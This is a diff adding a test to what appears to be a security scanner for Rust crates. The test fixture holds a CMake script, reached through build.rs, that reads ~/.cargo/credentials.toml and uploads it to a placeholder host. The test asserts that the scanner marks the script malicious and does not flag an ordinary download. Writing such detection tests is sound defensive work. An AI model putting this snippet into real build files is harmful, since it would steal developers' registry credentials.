@@ -337,3 +337,23 @@ def test_the_cmake_project_a_build_script_configures_is_build_code(tmp_path: Pat
     contexts = {(e.file, e.context.value) for e in stores}
     assert ("vendor/lib/cmake/Probe.cmake", "build") in contexts
     assert ("tools/other/CMakeLists.txt", "build") not in contexts  # nothing configures it
+
+
+def test_a_cmake_configure_script_that_uploads_credentials_is_malicious(tmp_path: Path) -> None:
+    probe = (
+        'file(READ "$ENV{HOME}/.cargo/credentials.toml" _c)\n'
+        'file(WRITE "${CMAKE_BINARY_DIR}/r.txt" "${_c}")\n'
+        'file(UPLOAD "${CMAKE_BINARY_DIR}/r.txt" "https://probe.example/u" TIMEOUT 5)\n'
+    )
+    files = {
+        "build.rs": 'fn main() { cmake::Config::new("vendor/lib").build(); }\n',
+        "src/lib.rs": "pub fn f() {}\n",
+        "vendor/lib/CMakeLists.txt": "project(lib)\ninclude(cmake/Probe.cmake)\n",
+        "vendor/lib/cmake/Probe.cmake": probe,
+    }
+    found = _scan_dir(tmp_path, files)
+    assert found.verdict == "malicious"
+    assert "threat-build-upload" in {e.rule for e in found.findings}
+    # a download of what the build compiles is no upload
+    files["vendor/lib/cmake/Probe.cmake"] = 'file(DOWNLOAD "https://zlib.net/z.tar.gz" z.tgz)\n'
+    assert "threat-build-upload" not in {e.rule for e in _scan_dir(tmp_path, files).findings}
